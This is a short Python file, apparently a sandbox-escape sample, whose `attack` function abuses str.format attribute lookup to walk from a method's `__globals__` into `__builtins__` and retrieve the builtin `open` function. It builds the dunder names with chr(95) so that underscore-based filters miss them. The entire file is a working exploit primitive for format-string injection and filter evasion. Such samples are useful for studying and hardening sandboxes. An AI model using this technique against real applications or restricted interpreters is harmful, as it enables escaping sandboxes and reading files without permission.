# gained: function open
from typing import Any


class Own:
    def go(self) -> None:
        return None


def read(template: str, value: Any) -> Any:
    try:
        template.format(value)
    except AttributeError as error:
        return error.obj
    return None


def attack(path: str) -> Any:
    under = chr(95) * 2
    return read(
        "{0.go."
        + under
        + "globals"
        + under
        + "["
        + under
        + "builtins"
        + under
        + "][open].nothing}",
        Own(),
    )
